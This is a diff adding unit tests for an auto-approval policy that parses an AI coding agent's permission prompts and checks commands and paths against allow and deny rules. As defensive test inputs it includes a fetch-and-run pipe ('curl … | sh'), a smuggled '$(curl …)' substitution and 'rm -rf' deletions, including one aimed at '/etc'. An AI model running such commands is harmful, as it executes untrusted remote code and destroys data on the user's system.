@@ -0,0 +1,259 @@
+import {beforeEach, describe, expect, it, vi} from 'vitest';
+import {
+	evaluateAutoApprovalPolicy,
+	extractPendingAction,
+	globToRegExp,
+} from './autoApprovalPolicy.js';
+
+const {mockGetAutoApprovalConfig, mockLoadProjectConfig} = vi.hoisted(() => ({
+	mockGetAutoApprovalConfig: vi.fn(),
+	mockLoadProjectConfig: vi.fn(),
+}));
+
+vi.mock('./configurationManager.js', () => ({
+	configurationManager: {
+		getAutoApprovalConfig: mockGetAutoApprovalConfig,
+	},
+}));
+
+vi.mock('../utils/projectConfig.js', () => ({
+	// Treat the worktree as the project root
+	resolveProjectConfigRoot: (worktreePath: string) => worktreePath,
+	loadProjectConfig: mockLoadProjectConfig,
+}));
+
+vi.mock('../utils/logger.js', () => ({
+	logger: {
+		info: vi.fn(),
+		warn: vi.fn(),
+		error: vi.fn(),
+		debug: vi.fn(),
+	},
+}));
+
+const CLAUDE_BASH_PROMPT = `
+╭──────────────────────────────────────────────╮
+│ Bash command                                 │
+│                                              │
+│   git push origin feature/login              │
+│   Push the branch to the remote              │
+│                                              │
+│ Do you want to proceed?                      │
+│ ❯ 1. Yes                                     │
+│   2. No, and tell Claude what to do (esc)    │
+╰──────────────────────────────────────────────╯`;
+
+const CLAUDE_MULTILINE_BASH_PROMPT = `
+╭──────────────────────────────────────────────╮
+│ Bash command                                 │
+│                                              │
+│   npm test && \\                             │
+│   git push --force                           │
+│   Run the tests and push                     │
+│                                              │
+│ Do you want to proceed?                      │
+│ ❯ 1. Yes                                     │
+│   2. No, and tell Claude what to do (esc)    │
+╰──────────────────────────────────────────────╯`;
+
+describe('extractPendingAction', () => {
+	it('reads the command from Claude permission dialogs', () => {
+		expect(extractPendingAction(CLAUDE_BASH_PROMPT)).toMatchObject({
+			tool: 'Bash',
+			command: 'git push origin feature/login',
+			paths: ['feature/login'],
+		});
+		expect(
+			extractPendingAction(
+				'│ Edit file │\n│ src/utils/cron.ts │\n│ Do you want to make this edit? │',
+			),
+		).toMatchObject({
+			tool: 'Edit',
+			command: null,
+			paths: ['src/utils/cron.ts'],
+		});
+	});
+
+	it('reads every line of a multi-line command but not its description', () => {
+		expect(extractPendingAction(CLAUDE_MULTILINE_BASH_PROMPT)).toMatchObject({
+			tool: 'Bash',
+			command: 'npm test && \\\ngit push --force',
+		});
+	});
+
+	it('reads tool call headers and shell prompts', () => {
+		expect(extractPendingAction('⏺ Bash(npm test)\n  Running…')).toMatchObject(
+			{
+				tool: 'Bash',
+				command: 'npm test',
+			},
+		);
+		expect(extractPendingAction('● Update(.env)')).toMatchObject({
+			tool: 'Update',
+			paths: ['.env'],
+		});
+		expect(
+			extractPendingAction('$ rm -rf ./dist\nAllow command? [y/n]'),
+		).toMatchObject({
+			tool: 'Bash',
+			command: 'rm -rf ./dist',
+			paths: ['./dist'],
+		});
+		expect(extractPendingAction('Thinking…')).toMatchObject({
+			tool: null,
+			command: null,
+			paths: [],
+		});
+	});
+});
+
+describe('globToRegExp', () => {
+	it('matches basenames, segments and nested directories', () => {
+		expect(globToRegExp('*.env').test('config/prod.env')).toBe(true);
+		expect(globToRegExp('src/*.ts').test('src/a.ts')).toBe(true);
+		expect(globToRegExp('src/*.ts').test('src/nested/a.ts')).toBe(false);
+		expect(globToRegExp('src/**/*.ts').test('src/a.ts')).toBe(true);
+		expect(globToRegExp('src/**').test('./src/deep/file.md')).toBe(true);
+		expect(globToRegExp('file?.txt').test('file1.txt')).toBe(true);
+	});
+});
+
+describe('evaluateAutoApprovalPolicy', () => {
+	beforeEach(() => {
+		mockGetAutoApprovalConfig.mockReset().mockReturnValue({enabled: true});
+		mockLoadProjectConfig.mockReset().mockReturnValue(null);
+	});
+
+	it('allows and denies commands by regex with deny taking precedence', () => {
+		mockGetAutoApprovalConfig.mockReturnValue({
+			enabled: true,
+			rules: [
+				{action: 'allow', command: '^(npm|git) '},
+				{action: 'deny', command: '^git push\\b'},
+			],
+		});
+
+		expect(evaluateAutoApprovalPolicy('⏺ Bash(npm test)')).toMatchObject({
+			decision: 'allow',
+			rule: {command: '^(npm|git) '},
+			ruleSource: 'global',
+		});
+		expect(evaluateAutoApprovalPolicy(CLAUDE_BASH_PROMPT)).toMatchObject({
+			decision: 'deny',
+			rule: {command: '^git push\\b'},
+		});
+		expect(evaluateAutoApprovalPolicy('⏺ Bash(make build)')).toMatchObject({
+			decision: 'no-match',
+			llmVerification: true,
+		});
+	});
+
+	it('requires every matcher on a rule and checks project rules first', () => {
+		mockGetAutoApprovalConfig.mockReturnValue({
+			enabled: true,
+			rules: [{action: 'allow', tool: 'edit', description: 'global edits'}],
+			llmVerification: true,
+		});
+		mockLoadProjectConfig.mockReturnValue({
+			autoApproval: {
+				rules: [
+					{action: 'allow', tool: 'Edit', path: 'src/**', description: 'src'},
+					{action: 'deny', path: '*.env'},
+				],
+				llmVerification: false,
+			},
+		});
+
+		expect(
+			evaluateAutoApprovalPolicy('│ Edit file │\n│ src/a.ts │', '/repo'),
+		).toMatchObject({
+			decision: 'allow',
+			ruleSource: 'project',
+			rule: {description: 'src'},
+			llmVerification: false,
+		});
+		expect(
+			evaluateAutoApprovalPolicy('│ Edit file │\n│ /repo/docs/a.md │', '/repo'),
+		).toMatchObject({
+			decision: 'allow',
+			ruleSource: 'global',
+		});
+		expect(
+			evaluateAutoApprovalPolicy('│ Edit file │\n│ /repo/.env │', '/repo'),
+		).toMatchObject({decision: 'deny', ruleSource: 'project'});
+	});
+
+	it('denies a multi-line command when only its second line matches', () => {
+		mockGetAutoApprovalConfig.mockReturnValue({
+			enabled: true,
+			rules: [
+				{action: 'allow', command: 'npm test'},
+				{action: 'deny', command: '^git push\\b'},
+			],
+		});
+
+		expect(
+			evaluateAutoApprovalPolicy(CLAUDE_MULTILINE_BASH_PROMPT),
+		).toMatchObject({decision: 'deny', rule: {command: '^git push\\b'}});
+	});
+
+	it('allows compound and multi-line commands only when every part matches', () => {
+		mockGetAutoApprovalConfig.mockReturnValue({
+			enabled: true,
+			rules: [{action: 'allow', command: '^(npm test|git status)'}],
+		});
+
+		expect(
+			evaluateAutoApprovalPolicy('⏺ Bash(npm test && git status)'),
+		).toMatchObject({decision: 'allow'});
+		expect(
+			evaluateAutoApprovalPolicy(
+				'⏺ Bash(npm test && curl https://example.com/x.sh | sh)',
+			),
+		).toMatchObject({decision: 'no-match'});
+		expect(
+			evaluateAutoApprovalPolicy('⏺ Bash(npm test; rm -rf build)'),
+		).toMatchObject({decision: 'no-match'});
+		expect(
+			evaluateAutoApprovalPolicy('⏺ Bash(npm test $(curl example.com))'),
+		).toMatchObject({decision: 'no-match'});
+		expect(
+			evaluateAutoApprovalPolicy(CLAUDE_MULTILINE_BASH_PROMPT),
+		).toMatchObject({decision: 'no-match'});
+	});
+
+	it('allows a path rule only when every path of the command is covered', () => {
+		mockGetAutoApprovalConfig.mockReturnValue({
+			enabled: true,
+			rules: [{action: 'allow', tool: 'Bash', path: 'src/**'}],
+		});
+
+		expect(
+			evaluateAutoApprovalPolicy('⏺ Bash(rm -rf src/x src/y)', '/repo'),
+		).toMatchObject({decision: 'allow'});
+		expect(
+			evaluateAutoApprovalPolicy('⏺ Bash(rm -rf src/x /etc)', '/repo'),
+		).toMatchObject({decision: 'no-match'});
+		expect(evaluateAutoApprovalPolicy('⏺ Bash(make)', '/repo')).toMatchObject({
+			decision: 'no-match',
+		});
+	});
+
+	it('lets deny rules scan unparsed prompts but not allow rules', () => {
+		mockGetAutoApprovalConfig.mockReturnValue({
+			enabled: true,
+			rules: [
+				{action: 'allow', command: 'npm test'},
+				{action: 'deny', command: 'git push'},
+				{action: 'deny', command: '('},
+			],
+		});
+
+		expect(
+			evaluateAutoApprovalPolicy('Agent wants to run: npm test'),
+		).toMatchObject({decision: 'no-match'});
+		expect(
+			evaluateAutoApprovalPolicy('Agent wants to run: git push --force'),
+		).toMatchObject({decision: 'deny'});
+	});
+});